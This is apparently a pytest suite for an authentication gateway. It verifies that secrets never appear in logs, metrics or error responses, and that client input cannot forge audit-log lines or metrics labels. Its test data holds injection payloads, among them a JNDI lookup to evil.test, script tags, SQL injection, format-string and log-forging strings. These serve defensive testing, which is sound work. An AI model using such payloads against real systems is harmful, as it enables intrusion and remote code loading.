"""What an attack leaves behind: in the log, in the metrics, in answers (RFC 6819 4.6.4, OWASP ASVS 7.1, 7.4)."""

from __future__ import annotations

import base64
import json
import re
import secrets
import string
from collections.abc import Iterator

import pytest

from gateway import errors
from tests.attacks.support import ACCESS, CLIENT, CLIENT_SECRET, REFRESH, attempt, sign_in, websocket
from tests.e2e.backends import Backend
from tests.e2e.harness import ADMIN_TOKEN, PASSWORD, Gateway, until
from tests.e2e.wire import Answer, Client, WireError, request

JSON = ("Content-Type", "application/json")
FORM = ("Content-Type", "application/x-www-form-urlencoded")


def basic(name: str, secret: str) -> str:
    return "Basic " + base64.b64encode(f"{name}:{secret}".encode()).decode()


def requests_with(secret: str, path: str) -> Iterator[tuple[str, bytes]]:
    """Yield (method, request) with a secret in every place that a request has."""
    targets = [f"/auth/me?token={secret}", f"/auth/verify/{secret}", f"/auth/sessions/{secret}", f"/{secret}?{secret}"]
    carriers = [
        ("Authorization", f"Bearer {secret}"),
        ("Authorization", f"bearer {secret} {secret}"),
        ("Authorization", secret),
        ("Authorization", basic(CLIENT, secret)),
        ("Cookie", f"{REFRESH}={secret}; {ACCESS}={secret}; other={secret}"),
        ("X-Request-Id", secret),
        ("User-Agent", secret),
        ("Referer", f"https://user:{secret}@gateway.test/?{secret}"),
        ("X-Forwarded-For", secret),
        ("traceparent", secret),
        ("Origin", f"https://{secret}.test"),
        ("Content-Type", secret),
        ("Transfer-Encoding", secret),
        ("Expect", secret),
        (secret, secret),
    ]
    for carrier in carriers:
        yield "GET", request("GET", path, [carrier])
        yield "POST", request("POST", path, [carrier], b"x")
    for target in targets:
        yield "GET", request("GET", target)
        yield "POST", request("POST", target, carriers[:1], b"x")
    members = ["password", "device", "refresh_token", "token", "grant_type", "refresh_in", "nothing", secret]
    for target in ("/auth/login", "/auth/token", "/auth/logout", "/auth/revoke", "/auth/introspect"):
        for member in members:
            content = {"username": "alice", "grant_type": "refresh_token", "password": "x", member: secret}
            yield "POST", request("POST", target, [JSON], json.dumps(content).encode())
            yield "POST", request("POST", target, [FORM], f"{member}={secret}&{member}={secret}".encode())
            yield (
                "POST",
                request("POST", target, [("Authorization", basic(CLIENT, secret)), FORM], f"token={secret}".encode()),
            )
        yield "POST", request("POST", target, [JSON], b'{"username":"' + secret.encode())
    yield "GET", request("GET", path, websocket([("Sec-WebSocket-Protocol", f"bearer, {secret}")]))
    yield "GET", f"GET /{secret} HTTP/9.9\r\n{secret}\r\n\r\n".encode()
    yield "GET", f"{secret} / HTTP/1.1\r\nHost: {secret}\r\n\r\n".encode()
    yield "GET", f"GET / HTTP/1.1\r\nHost: gateway.test\r\n{secret} : {secret}\r\n\r\n".encode()
    yield "POST", f"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n{secret}\r\n".encode()


def answers(gateway: Gateway, data: Iterator[tuple[str, bytes]]) -> Iterator[Answer]:
    for method, question in data:
        with Client(gateway.port) as client:
            try:
                yield client.ask(question, method)
            except (WireError, ConnectionError):  # where a connection ends without a word nothing is said
                continue


def test_no_secret_that_comes_in_any_place_is_in_the_log_the_metrics_or_an_answer_of_ours(
    fortress: Gateway, backend: Backend
) -> None:
    mine = fortress.login("bob")
    cookies = sign_in(fortress, user="bob")
    good = [mine["access_token"], mine["refresh_token"], *cookies.values()]
    for secret in (*good[:2], "k33p-" + secrets.token_urlsafe(24)):
        path = backend.spot().path("/guarded")
        for answer in answers(fortress, requests_with(secret, path)):
            if answer.get("x-gateway-error"):
                told = [value for name, value in answer.headers if name != "x-request-id"]  # which is the client's word
                assert secret not in str(told)
                assert secret.encode() not in answer.body
        assert secret not in fortress.log
        assert secret not in fortress.operate("GET", "/metrics").body.decode()
    for secret in (PASSWORD, ADMIN_TOKEN, CLIENT_SECRET, basic(CLIENT, CLIENT_SECRET).split()[1]):
        assert secret not in fortress.log
    for secret in good:  # no part of them either that could be used or looked up
        assert secret.rpartition(".")[2] not in fortress.log


def test_a_token_that_is_typed_in_as_a_name_is_blotted_out(fortress: Gateway) -> None:
    """The name of a failed sign-in is logged, since an operator must see who is under attack."""
    tokens = fortress.login("bob")
    for secret in (tokens["access_token"][:250], tokens["refresh_token"], f"Bearer {tokens['refresh_token']}"):
        assert attempt(fortress, secret).status == 401
        assert secret not in fortress.log
        assert secret.rpartition(".")[2][:40] not in fortress.log


TEXTS = {
    error.description
    for error in vars(errors).values()
    if isinstance(error, type) and issubclass(error, errors.GatewayError)
}
DETAILS = re.compile(
    r"(every member must be a string|the (body|form) is (not a JSON object|malformed)"
    r"|the content (type|coding) is not supported|a parameter came more than once"
    r"|the refresh cookie came more than once"
    r"|the only query is except=current"
    r"|refresh_in must be body or cookie|password is too long|(username|device) is too long or has control characters"
    r"|(username|password|grant_type|refresh_token|token) is missing|the header [a-z-]+ came more than once)"
)
REVEALING = re.compile(
    r"traceback|exception|python|uvicorn|starlette|llhttp|httptools|redis|jwt|cryptography|argon2|/work|/usr|\.py|127\.0\.0\.1"
    r"|signature|segment|kid|unknown user|wrong password|u-alice|u-bob",
    re.IGNORECASE,
)


def test_errors_say_what_they_always_say_and_nothing_of_what_is_inside(fortress: Gateway, backend: Backend) -> None:
    secret = "A" + secrets.token_hex(8)
    seen = 0
    for answer in answers(fortress, requests_with(secret, backend.spot().path("/guarded"))):
        if answer.get("x-gateway-error") and answer.body:
            seen += 1
            text = answer.json()["error_description"]
            assert text in TEXTS or DETAILS.fullmatch(text), text
            shown = [f"{name}: {value}" for name, value in answer.headers if name not in ("x-request-id", "date")]
            assert not REVEALING.search(str(shown)), shown
            assert not REVEALING.search(answer.body.decode())
    assert seen > 100


# --- lines that would be other lines ---

NAMES = [
    'x","event":"login","subject":"root',
    'x"}{"event":"login","subject":"root"}',
    "x\\n{}",
    'x\u2028{"event":"login"}',
    "x\u0085y",
    "x\u009b31mred",
    "\u202egnp.exe",
    "%0a%0d{}",
    "${jndi:ldap://evil.test/a}",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "{0.__class__}",
    "%s%s%s%n",
    "\U0001f600" * 50,
]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_makes_one_line_of_the_audit_trail_and_is_only_a_name_there(fortress: Gateway, name: str) -> None:
    mark = secrets.token_hex(8)
    assert attempt(fortress, name + mark).status == 401
    lines = until(lambda: [line for line in fortress.log.split("\n") if mark in line], "the audit line")
    (line,) = map(json.loads, lines)
    assert (line["event"], line["reason"]) == ("login_failed", "invalid_credentials")
    assert line["subject"].endswith(mark)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u2028-\u202e]", lines[0])


@pytest.mark.parametrize("name", ["a\nb", "a\rb", "a\x00b", "a\x1b[31mb", "a\x7fb", "\t", "x" * 256])
def test_a_name_with_control_characters_is_refused_before_anyone_reads_it(fortress: Gateway, name: str) -> None:
    assert attempt(fortress, name).error == (400, "invalid_request")


@pytest.mark.parametrize("given", ["a\x0bb", "x" * 129, "a b", "", "a\u00e9", 'a"b', "a;b", "../a"])
def test_a_request_id_that_is_no_plain_word_is_replaced_before_it_is_logged_or_answered(
    fortress: Gateway, given: str
) -> None:
    with Client(fortress.port) as client:
        answer = client.ask(request("GET", "/guarded/x", {"X-Request-Id": given}))
    assert answer.error in ((401, "missing_token"), (400, "bad_request"))
    assert answer.get("x-request-id", "none") != given
    assert not given or given not in fortress.log


# --- labels that would be other labels ---


def labels(gateway: Gateway, name: str) -> set[str]:
    return set(re.findall(rf'\b{name}="([^"]*)"', gateway.operate("GET", "/metrics").body.decode()))


def test_nothing_that_a_client_sends_becomes_a_label(fortress: Gateway, backend: Backend) -> None:
    """Neither by its text (injection) nor by its number (a memory that grows with every guess)."""
    fortress.login("bob")
    routes, codes = labels(fortress, "route"), {*errors_of_contract()}
    series = fortress.operate("GET", "/metrics").body.count(b"\n")
    for number in range(200):
        word = f'x{number}"}} 1\ntokengate_sessions_total{{event="created'.replace("\n", "%0a").replace(" ", "+")
        targets = (f"/guarded/{number}", f"/nowhere/{number}", f"/auth/{number}", f"/{word}".replace('"', "%22"))
        for target in targets:
            with Client(fortress.port) as client:
                client.ask(request("GET", target, {"Host": f"h{number}.test", "Origin": f"http://o{number}"}))
    assert labels(fortress, "route") <= routes | {"/", "/guarded/", "auth", "control", ""}
    assert labels(fortress, "error") <= codes
    assert all(code in {str(n) for n in range(100, 600)} for code in labels(fortress, "code"))
    assert fortress.operate("GET", "/metrics").body.count(b"\n") < series + 60


def errors_of_contract() -> Iterator[str]:
    for error in vars(errors).values():
        if isinstance(error, type) and issubclass(error, errors.GatewayError):
            yield error.code


def test_the_public_keys_are_public(fortress: Gateway) -> None:
    """RFC 7517: no member of a private or a shared key is published, under any name of the well-known address."""
    with Client(fortress.port) as client:
        keys = client.ask(request("GET", "/.well-known/jwks.json")).json()["keys"]
    assert keys
    for key in keys:
        assert set(key) <= {"kty", "crv", "x", "y", "n", "e", "kid", "alg", "use"}
        assert key["kid"].strip(string.ascii_letters + string.digits + "._-") == ""
